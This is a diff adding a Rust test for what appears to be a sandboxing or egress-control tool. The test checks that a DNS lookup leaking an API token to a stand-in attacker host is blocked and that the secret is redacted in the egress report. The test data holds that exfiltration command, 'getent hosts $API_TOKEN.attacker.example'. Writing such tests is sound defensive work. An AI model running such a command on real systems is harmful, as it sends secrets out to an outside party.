@@ -521,3 +521,33 @@ except OSError as e: print('abstract refused', e)
         assert_eq!(r.decision(), "blocked", "{who:?}");
     }
 }
+
+#[test]
+fn a_given_secret_looked_up_as_a_name_is_redacted_in_the_egress_report() {
+    let ws = Ws::new(Who::User);
+    let secret = "zq9longsecretvalue4242";
+    let f = ws.root.path().join("exfil.yaml");
+    std::fs::write(
+        &f,
+        format!(
+            "command: getent hosts $API_TOKEN.attacker.example; true\nenv: {{API_TOKEN: {secret}}}\nintent: {{network: {{allow: [pkgs.example]}}}}\n"
+        ),
+    )
+    .unwrap();
+    ws.chown_all();
+    let r = ws.execute(&["--file", f.to_str().unwrap()]);
+    assert_ran(Who::User, &r);
+    assert!(
+        !r.stdout.contains(secret),
+        "the secret leaked: {}",
+        r.stdout
+    );
+    assert_eq!(r.decision(), "blocked");
+    let e = egress(&r);
+    assert!(
+        e.iter().any(|x| x["how"] == "dns"
+            && x["name"].as_str().unwrap().contains("[redacted:")
+            && x["name"].as_str().unwrap().ends_with(".attacker.example")),
+        "{e:?}"
+    );
+}
